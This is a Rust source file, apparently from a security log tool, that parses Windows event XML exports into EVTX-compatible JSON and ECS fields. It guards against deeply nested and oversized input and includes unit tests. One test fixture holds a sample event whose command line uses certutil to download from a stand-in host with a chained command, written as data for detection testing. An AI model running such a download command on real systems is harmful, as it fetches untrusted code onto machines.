//! Windows events exported as XML: `wevtutil qe LOG /f:xml` (a run of `<Event>` elements
//! with no root), Event Viewer's "Save as XML" (`<Events><Event>…</Event></Events>`) and
//! `/f:RenderedXml` (with `RenderingInfo`). Each `<Event>` becomes an [`Event`] with the
//! same layout as the same record read from an EVTX file (`Event.System.*`,
//! `Event.EventData.*`, `Event.UserData.*`, attributes normalised as `evtx.rs` describes),
//! and the same ECS fields, so rules and searches see one shape whichever export they get.
//!
//! Read as a stream: memory holds one event at a time. A malformed event is one `Err` item;
//! XML broken beyond an element ends the file with one `Err` item.

use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event as XmlEvent};
use rampart_model::{Event, Origin, Raw};
use serde_json::{Map, Value};
use std::io::BufRead;

/// Elements of `System` that the EVTX rendering gives as numbers (XML has only text).
const SYSTEM_NUMBERS: &[&str] = &[
    "EventID",
    "Version",
    "Level",
    "Task",
    "Opcode",
    "EventRecordID",
];

/// Deepest element nesting read in one event (Windows events use 4 or 5 levels). Deeper
/// input is hostile or broken, and would make the recursive JSON handling overflow the
/// stack.
const MAX_DEPTH: usize = 32;

/// Largest event read (Windows caps a record at 64 KiB; rendered, a few times that).
const MAX_EVENT_BYTES: u64 = 16 * 1024 * 1024;

/// Attributes of `System` elements that the EVTX rendering gives as numbers.
const NUMERIC_ATTRIBUTES: &[&str] = &["ProcessID", "ThreadID", "Qualifiers"];

/// The events of an XML export, in file order.
pub fn read<R: BufRead>(reader: R, origin: Origin) -> XmlEvents<R> {
    let mut reader = Reader::from_reader(reader);
    reader.config_mut().trim_text(false);
    XmlEvents {
        reader,
        buf: Vec::new(),
        origin,
        done: false,
        count: 0,
    }
}

/// Iterator returned by [`read`]: each item an event or why one could not be read.
pub struct XmlEvents<R: BufRead> {
    reader: Reader<R>,
    buf: Vec<u8>,
    origin: Origin,
    done: bool,
    /// `<Event>` elements met so far, for error messages.
    count: u64,
}

/// One open element.
struct Node {
    name: String,
    attrs: Map<String, Value>,
    children: Vec<(String, Value)>,
    text: String,
}

impl Node {
    fn new(name: String, attrs: Map<String, Value>) -> Node {
        Node {
            name,
            attrs,
            children: Vec::new(),
            text: String::new(),
        }
    }
}

impl<R: BufRead> Iterator for XmlEvents<R> {
    type Item = Result<Event, String>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.done {
            return None;
        }
        loop {
            self.buf.clear();
            match self.reader.read_event_into(&mut self.buf) {
                Ok(XmlEvent::Start(e)) if e.local_name().as_ref() == b"Event" => {
                    self.count += 1;
                    let root = Node::new("Event".to_owned(), attributes(&e, false));
                    return Some(self.read_event(root));
                }
                Ok(XmlEvent::Eof) => {
                    self.done = true;
                    return None;
                }
                Ok(_) => {}
                Err(e) => return Some(Err(self.fatal(e))),
            }
        }
    }
}

impl<R: BufRead> XmlEvents<R> {
    fn fatal(&mut self, e: quick_xml::Error) -> String {
        self.done = true;
        format!(
            "invalid XML near byte {} (event {}): {e}",
            self.reader.buffer_position(),
            self.count + 1
        )
    }

    /// The rest of an `<Event>` whose start tag was read.
    fn read_event(&mut self, root: Node) -> Result<Event, String> {
        let mut stack = vec![root];
        let start = self.reader.buffer_position();
        loop {
            if self.reader.buffer_position().saturating_sub(start) > MAX_EVENT_BYTES {
                return self.skip_rest(stack.len(), "is larger than 16 MiB");
            }
            self.buf.clear();
            let ev = match self.reader.read_event_into(&mut self.buf) {
                Ok(ev) => ev,
                Err(e) => return Err(self.fatal(e)),
            };
            match ev {
                XmlEvent::Start(e) => {
                    if stack.len() >= MAX_DEPTH {
                        // The element just started is open too.
                        let why = format!("nests elements deeper than {MAX_DEPTH}");
                        return self.skip_rest(stack.len() + 1, &why);
                    }
                    let name = local_name(&e);
                    let numeric = stack.len() == 2 && stack[1].name == "System";
                    stack.push(Node::new(name, attributes(&e, numeric)));
                }
                XmlEvent::Empty(e) => {
                    let name = local_name(&e);
                    let numeric = stack.len() == 2 && stack[1].name == "System";
                    let node = Node::new(name, attributes(&e, numeric));
                    let parent_is_system = stack.len() == 2 && stack[1].name == "System";
                    let value = finish(node, parent_is_system);
                    if let Some(parent) = stack.last_mut() {
                        parent.children.push(value);
                    }
                }
                XmlEvent::Text(t) => {
                    // Kept as written, line ends included (`\r\n`), as the EVTX rendering
                    // keeps them.
                    let text = t.decode().map_err(|e| {
                        format!("event {}: text is not valid UTF-8: {e}", self.count)
                    })?;
                    if let Some(top) = stack.last_mut() {
                        top.text.push_str(&text);
                    }
                }
                XmlEvent::CData(t) => {
                    let text = t.decode().map_err(|e| {
                        format!("event {}: CDATA is not valid UTF-8: {e}", self.count)
                    })?;
                    if let Some(top) = stack.last_mut() {
                        top.text.push_str(&text);
                    }
                }
                XmlEvent::GeneralRef(r) => {
                    let resolved = match r.resolve_char_ref() {
                        Ok(Some(c)) => c.to_string(),
                        Ok(None) => {
                            let name = r.decode().map_err(|e| {
                                format!("event {}: bad entity reference: {e}", self.count)
                            })?;
                            quick_xml::escape::resolve_predefined_entity(&name)
                                .map(str::to_owned)
                                .ok_or_else(|| {
                                    format!("event {}: unknown entity &{name};", self.count)
                                })?
                        }
                        Err(e) => return Err(format!("event {}: {e}", self.count)),
                    };
                    if let Some(top) = stack.last_mut() {
                        top.text.push_str(&resolved);
                    }
                }
                XmlEvent::End(_) => {
                    let Some(node) = stack.pop() else {
                        return Err(format!("event {}: unbalanced end tag", self.count));
                    };
                    let parent_is_system = stack.len() == 2 && stack[1].name == "System";
                    let (name, value) = finish(node, parent_is_system);
                    match stack.last_mut() {
                        Some(parent) => parent.children.push((name, value)),
                        None => return Ok(self.to_event(value)),
                    }
                }
                XmlEvent::Eof => {
                    self.done = true;
                    return Err(format!(
                        "event {}: the file ends inside <{}>",
                        self.count,
                        stack.last().map_or("Event", |n| n.name.as_str())
                    ));
                }
                XmlEvent::Comment(_)
                | XmlEvent::Decl(_)
                | XmlEvent::PI(_)
                | XmlEvent::DocType(_) => {}
            }
        }
    }

    /// Read past the rest of an event refused for `why` (`open` elements still open), then
    /// report it; the next event reads as usual.
    fn skip_rest(&mut self, mut open: usize, why: &str) -> Result<Event, String> {
        while open > 0 {
            self.buf.clear();
            match self.reader.read_event_into(&mut self.buf) {
                Ok(XmlEvent::Start(_)) => open += 1,
                Ok(XmlEvent::End(_)) => open -= 1,
                Ok(XmlEvent::Eof) => {
                    self.done = true;
                    break;
                }
                Ok(_) => {}
                Err(e) => return Err(self.fatal(e)),
            }
        }
        Err(format!("event {}: {why}; skipped", self.count))
    }

    /// The event of a rendered `<Event>` value, as an EVTX record would give it.
    fn to_event(&self, value: Value) -> Event {
        let mut root = Map::new();
        root.insert("Event".to_owned(), value);
        let mut value = Value::Object(root);
        let raw = value.to_string();
        crate::evtx::normalise(&mut value);
        let fields = match value {
            Value::Object(m) => m,
            _ => Map::new(),
        };
        let mut ev = Event::new(self.origin.clone(), Raw::Text(raw));
        ev.parser = "windows_xml".to_owned();
        ev.fields = fields;
        crate::evtx::extract_windows_ecs(&mut ev, &crate::evtx::EVTX);
        ev
    }
}

fn local_name(e: &BytesStart<'_>) -> String {
    String::from_utf8_lossy(e.name().as_ref()).into_owned()
}

/// An element's attributes, numbers where the EVTX rendering has them.
fn attributes(e: &BytesStart<'_>, numeric: bool) -> Map<String, Value> {
    let mut out = Map::new();
    for attr in e.attributes().flatten() {
        // The qualified name, namespace declarations included, as the EVTX rendering has it.
        let key = String::from_utf8_lossy(attr.key.as_ref()).into_owned();
        let text = attr
            .unescape_value()
            .map(|v| v.into_owned())
            .unwrap_or_else(|_| String::from_utf8_lossy(&attr.value).into_owned());
        let value = match text.parse::<u64>() {
            Ok(n) if numeric && NUMERIC_ATTRIBUTES.contains(&key.as_str()) => Value::from(n),
            _ => Value::String(text),
        };
        out.insert(key, value);
    }
    out
}

/// An element as the EVTX JSON rendering has it: text alone as the value; attributes under
/// `#attributes` (text then under `#text`); children by name, repeated names as an array;
/// `<Data Name="X">v</Data>` of `EventData` as `"X": "v"`; an empty element as `null`.
fn finish(node: Node, parent_is_system: bool) -> (String, Value) {
    let Node {
        name,
        attrs,
        children,
        text,
    } = node;
    // A leaf's text as it is (trailing blanks are data: `"User32 "`); text around child
    // elements is only layout.
    let text = if children.is_empty() {
        text.as_str()
    } else {
        ""
    };
    let text_value = || -> Value {
        if text.is_empty() {
            return Value::Null;
        }
        if parent_is_system
            && SYSTEM_NUMBERS.contains(&name.as_str())
            && let Ok(n) = text.parse::<u64>()
        {
            return Value::from(n);
        }
        Value::String(text.to_owned())
    };
    if children.is_empty() {
        let value = if attrs.is_empty() {
            text_value()
        } else if text.is_empty() {
            let mut m = Map::new();
            m.insert("#attributes".to_owned(), Value::Object(attrs));
            Value::Object(m)
        } else {
            let mut m = Map::new();
            m.insert("#attributes".to_owned(), Value::Object(attrs));
            m.insert("#text".to_owned(), text_value());
            Value::Object(m)
        };
        return (name, value);
    }
    let event_data = name == "EventData";
    let mut map = Map::new();
    // EventData's unnamed `<Data>` items, rendered as `"Data": {"#text": …}`.
    let mut unnamed: Vec<Value> = Vec::new();
    for (child_name, child) in children {
        // EventData's `<Data Name="X">v</Data>`: the item X.
        let (key, value) = match (event_data, child_name.as_str(), child) {
            (true, "Data", Value::Object(mut m)) => {
                let item = m
                    .get("#attributes")
                    .and_then(|a| a.get("Name"))
                    .and_then(Value::as_str)
                    .map(str::to_owned);
                match item {
                    Some(item) => (item, m.remove("#text").unwrap_or(Value::Null)),
                    None => (child_name, Value::Object(m)),
                }
            }
            (true, "Data", v) => {
                unnamed.push(v);
                continue;
            }
            (_, _, v) => (child_name, v),
        };
        match map.get_mut(&key) {
            None => {
                map.insert(key, value);
            }
            Some(Value::Array(items)) => items.push(value),
            Some(existing) => {
                let first = existing.take();
                *existing = Value::Array(vec![first, value]);
            }
        }
    }
    if !unnamed.is_empty() {
        let text = if unnamed.len() == 1 {
            unnamed.remove(0)
        } else {
            Value::Array(unnamed)
        };
        let mut data = Map::new();
        data.insert("#text".to_owned(), text);
        map.insert("Data".to_owned(), Value::Object(data));
    }
    if !attrs.is_empty() {
        map.insert("#attributes".to_owned(), Value::Object(attrs));
    }
    (name, Value::Object(map))
}

#[cfg(test)]
mod tests {
    use super::*;
    use rampart_model::OriginKind;

    const WEVTUTIL: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2024-03-10T09:00:00.1234567Z'/><EventRecordID>4242</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='88'/><Channel>Security</Channel><Computer>ws1.corp.example</Computer><Security/></System><EventData><Data Name='SubjectUserName'>ann</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='NewProcessId'>0x1a2c</Data><Data Name='NewProcessName'>C:\Windows\System32\certutil.exe</Data><Data Name='CommandLine'>certutil -urlcache -f http://x/a &amp; echo &#x41;</Data><Data Name='ParentProcessName'>C:\Windows\System32\cmd.exe</Data><Data Name='TargetUserName'>-</Data><Data Name='MandatoryLabel'/></EventData></Event>
<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID Qualifiers='0'>1102</EventID><TimeCreated SystemTime='2024-03-10T09:05:00Z'/><Channel>Security</Channel><Computer>ws1.corp.example</Computer></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserName>ann</SubjectUserName></LogFileCleared></UserData></Event>
<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='PowerShell'/><EventID Qualifiers='0'>800</EventID><TimeCreated SystemTime='2024-03-10T09:06:00Z'/><Channel>Windows PowerShell</Channel><Computer>ws1</Computer></System><EventData><Data>Get-Process</Data><Data>DetailSequence=1</Data></EventData></Event>"#;

    fn events(text: &str) -> Vec<Result<Event, String>> {
        read(text.as_bytes(), Origin::new(OriginKind::Import, "t")).collect()
    }

    #[test]
    fn wevtutil_export_reads_as_evtx_would() {
        let evs = events(WEVTUTIL);
        assert_eq!(evs.len(), 3, "{evs:?}");
        let ev = evs[0].as_ref().expect("first event");
        assert_eq!(ev.parser, "windows_xml");
        assert_eq!(ev.timestamp.to_rfc3339(), "2024-03-10T09:00:00.1234567Z");
        for (path, want) in [
            ("Event.System.EventID", "4688"),
            (
                "Event.System.Provider.Name",
                "Microsoft-Windows-Security-Auditing",
            ),
            ("Event.System.Execution.ProcessID", "4"),
            ("Event.System.Channel", "Security"),
            ("Event.EventData.SubjectUserName", "ann"),
            (
                "Event.EventData.CommandLine",
                "certutil -urlcache -f http://x/a & echo A",
            ),
            ("host.name", "ws1.corp.example"),
            ("event.code", "4688"),
            ("process.name", "certutil.exe"),
            ("process.parent.name", "cmd.exe"),
            ("user.name", "ann"),
        ] {
            assert_eq!(ev.get_str(path).as_deref(), Some(want), "{path}");
        }
        // Numbers where EVTX has numbers, an empty item as null, the namespace kept.
        assert!(ev.get("Event.System.EventID").is_some_and(|v| v.is_u64()));
        assert!(
            ev.get("Event.EventData.MandatoryLabel")
                .is_some_and(|v| v.is_null())
        );
        assert_eq!(
            ev.get_str("Event.xmlns").as_deref(),
            Some("http://schemas.microsoft.com/win/2004/08/events/event")
        );

        let cleared = evs[1].as_ref().expect("second event");
        assert_eq!(
            cleared
                .get_str("Event.UserData.LogFileCleared.SubjectUserName")
                .as_deref(),
            Some("ann")
        );
        assert_eq!(
            cleared.get_str("Event.System.EventID").as_deref(),
            Some("1102")
        );
        assert_eq!(
            cleared
                .get_str("Event.System.EventID_attributes.Qualifiers")
                .as_deref(),
            Some("0")
        );
        let ps = evs[2].as_ref().expect("third event");
        let data = ps.get("Event.EventData.Data").expect("unnamed data");
        // As the EVTX rendering gives unnamed items: `"Data": {"#text": […]}`.
        assert_eq!(
            *data,
            serde_json::json!({"#text": ["Get-Process", "DetailSequence=1"]})
        );
    }

    #[test]
    fn event_viewer_export_with_a_root_element() {
        let doc =
            format!("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>{WEVTUTIL}</Events>");
        let evs = events(&doc);
        assert_eq!(evs.iter().filter(|e| e.is_ok()).count(), 3);
    }

    #[test]
    fn broken_xml_is_reported_not_a_panic() {
        // Truncated inside an event: the events before it, then the reason.
        let cut = &WEVTUTIL[..WEVTUTIL.len() - 40];
        let evs = events(cut);
        assert_eq!(evs.len(), 3);
        assert!(evs[0].is_ok() && evs[1].is_ok());
        let err = evs[2].as_ref().expect_err("truncated");
        assert!(err.contains("ends inside"), "{err}");
        // Mismatched tags.
        let evs = events("<Event><System><EventID>1</Channel></System></Event>");
        assert!(evs.iter().any(|e| e.is_err()), "{evs:?}");
        // Nesting far past any Windows event: that event is refused, the next one read.
        let deep = format!(
            "<Event><UserData>{}x{}</UserData></Event>{}",
            "<a>".repeat(200_000),
            "</a>".repeat(200_000),
            WEVTUTIL
        );
        let evs = events(&deep);
        assert_eq!(evs.len(), 4, "one refused, three read");
        assert!(
            evs[0].as_ref().is_err_and(|e| e.contains("deeper than 32")),
            "{:?}",
            evs[0]
        );
        assert!(evs[1..].iter().all(Result::is_ok));
        // An event past 16 MiB (many elements): refused, the next one read.
        let big = format!(
            "<Event><EventData>{}</EventData></Event>{}",
            "<Data Name='x'>0123456789abcdef0123456789abcdef</Data>".repeat(400_000),
            WEVTUTIL
        );
        let evs = events(&big);
        assert_eq!(evs.len(), 4);
        assert!(
            evs[0]
                .as_ref()
                .is_err_and(|e| e.contains("larger than 16 MiB")),
            "{:?}",
            evs[0]
        );
        assert!(evs[1..].iter().all(Result::is_ok));
        // Not XML at all: nothing, no panic.
        assert!(events("just some text").is_empty());
        let evs = events("<Event><System>&bogus;</System></Event>");
        assert!(
            evs[0].as_ref().is_err_and(|e| e.contains("bogus")),
            "{evs:?}"
        );
    }
}
